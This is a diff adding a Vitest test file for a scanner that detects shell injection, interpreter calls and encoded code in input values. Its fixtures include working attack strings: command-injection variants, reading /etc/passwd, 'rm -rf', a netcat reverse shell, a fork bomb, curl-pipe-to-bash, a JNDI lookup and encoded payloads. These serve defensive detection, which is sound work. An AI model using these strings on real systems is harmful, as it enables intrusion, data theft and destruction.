@@ -1,0 +1,147 @@
+import { describe, expect, it } from 'vitest';
+import { harmlessChecks, harmlessCommands, harmlessValues } from '../../test/fakes/harmless-values.ts';
+import { findInValue } from './find-in-value.ts';
+import { judgeScript } from './shell/judge-script.ts';
+
+const rules = (value: string, strictness: 1 | 2 = 1): readonly string[] =>
+  findInValue(value, strictness).marks.map(({ rule }) => rule.slice('input/'.length));
+
+describe('what is harmless', () => {
+  it.each(harmlessValues)('%s', (value) => {
+    expect(findInValue(value, 1).marks).toEqual([]);
+  });
+  it.each(harmlessCommands.filter((command) => !/^(?:\/bin\/|ba)?sh -c|^tail|^sleep/.test(command)))('%s', (value) => {
+    expect(findInValue(value, 1).marks).toEqual([]);
+  });
+  it.each(harmlessChecks)('in a shell: %s', (value) => {
+    expect(judgeScript(value)).toEqual([]);
+  });
+  it.each([
+    '[mysqld]\nuser=mysql\n',
+    'global\n  log stdout\n  timeout connect 5s\n',
+    '- name: x\n  date: today\n',
+    'Dear all,\nfind it attached.\nTom',
+  ])('of several lines: %j', (value) => {
+    expect(rules(value)).toEqual([]);
+  });
+});
+
+describe('shell in a value', () => {
+  it.each([
+    ';id',
+    '|id',
+    '&& reboot',
+    'x;ls',
+    '203.0.113.7|id',
+    '$(id)',
+    '`id`',
+    'a`uname -a`b',
+    '<(id)',
+    '>(tee x)',
+    '$(echo $(id))',
+    '$((6*7))',
+    '$[6*7]',
+    'cat$IFS/etc/hosts',
+    'cat${IFS}/etc/hosts',
+    "$'\\x63at' /etc/hosts",
+    'c""at /etc/hosts',
+    "wh'o'ami",
+    '\\id',
+    'x;c\\at /etc/hosts',
+    'x;c$@at /etc/hosts',
+    '{cat,/etc/hosts}',
+    'c{a,ur}t',
+    '/etc/pa[s]swd',
+    '/???/c?t /etc/hosts',
+    '/b[i]n/ls',
+    '() { :;}; echo x',
+    'cat /etc/passwd',
+    'rm -rf /srv',
+    'wget http://a.example/x',
+    'nc -e /bin/sh 192.0.2.1 1',
+    'sudo whoami',
+    'time whoami',
+    'ti""me whoami',
+    'alias x=id',
+    'f(){ f|f& };f',
+    'a=nc&&$a -l 1',
+    'echo x|sh',
+    'x\nid\n',
+    '~+',
+    '!-1!-2',
+    '%3Bid',
+    'q=%24%28id%29',
+    '<a b=";id"/>',
+    '{"a":"$(id)"}',
+    '{"$(id)":1}',
+    '&#59;id&#59;ls',
+    '--flag=$(id)',
+    'for %a in (1,2) do echo %a',
+    'if exist c:\\x echo y',
+    'x&bcdedit /set',
+    'cmd /c dir',
+    'settings. php',
+    'mtrr',
+  ])('%j', (value) => {
+    expect(rules(value).some((rule) => ['shell-injection', 'interpreter', 'code'].includes(rule))).toBe(true);
+  });
+
+  it.each(['env --version', 'Cut the onions', 'ansible-doc', 'a\r\nRCPT TO:<x@a.example>', ';\n.shell x'])(
+    'only at strictness 2: %j',
+    (value) => {
+      expect(rules(value, 2)).toContain('shell-injection');
+    },
+  );
+});
+
+describe('code in a value', () => {
+  it.each<[value: string, rule: string]>([
+    ['<?php phpinfo(); ?>', 'code'],
+    ['$_GET[0]($_GET[1])', 'code'],
+    ['system("id")', 'code'],
+    ['O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'code'],
+    ['php://filter/convert.base64-encode/resource=x', 'code'],
+    ['import os;os.system("id")', 'code'],
+    ['__import__("os").popen("id")', 'code'],
+    ['().__class__.__mro__', 'code'],
+    ['use Socket; my $s = 1;', 'code'],
+    ['@{[system "id"]}', 'code'],
+    ['IO.popen("id")', 'code'],
+    ['<%= `id` %>', 'code'],
+    ['require("child_process").exec("id")', 'code'],
+    ['(() => fetch("http://a.example"))()', 'code'],
+    ['let x = 1; while (x) { x++ }', 'code'],
+    ['{"__proto__":{"a":1}}', 'code'],
+    ['Invoke-Expression $x', 'code'],
+    ['Get-ChildItem -Recurse | Remove-Item', 'code'],
+    ['powershell -Command "dir"', 'interpreter'],
+    ['powershell -nop -enc SQBFAFgAIAAoAE4AZQ', 'encoded-code'],
+    ['java.lang.Runtime.getRuntime().exec("id")', 'code'],
+    ['${jndi:ldap://a.example/x}', 'code'],
+    ['{{7*7}}', 'code'],
+    ['#!/bin/sh\nid', 'code'],
+    ['curl http://a.example/x | bash', 'download-and-run'],
+    ['bash <(curl -s http://a.example/x)', 'download-and-run'],
+    ['iex (iwr http://a.example/x)', 'download-and-run'],
+  ])('%j: %s', (value, rule) => {
+    expect(rules(value)).toContain(rule);
+  });
+
+  const payload = 'cat /etc/passwd; id';
+  it.each<[name: string, value: string]>([
+    ['base64', Buffer.from(payload).toString('base64')],
+    ['base64 twice', Buffer.from(Buffer.from(payload).toString('base64')).toString('base64')],
+    ['hex', Buffer.from(payload).toString('hex')],
+    ['base64 within JSON', JSON.stringify({ a: { b: Buffer.from(payload).toString('base64') } })],
+    ['base64 within a URL', `https://a.example/?x=${encodeURIComponent(Buffer.from(payload).toString('base64'))}`],
+    ['gzip within base64', 'H4sIAAAAAAAC/0tOLFHQTy1J1i9ILC4uT7FWyEwBAJcaAicTAAAA'],
+  ])('within %s', (_, value) => {
+    expect(rules(value)).toContain('encoded-code');
+  });
+});
+
+it('shows nothing of a value', () => {
+  const { marks } = findInValue('cat /etc/hunter2secret; curl http://u:hunter2secret@a.example/ | sh', 2);
+  expect(marks.length).toBeGreaterThan(1);
+  expect(JSON.stringify(marks)).not.toContain('hunter2secret');
+});
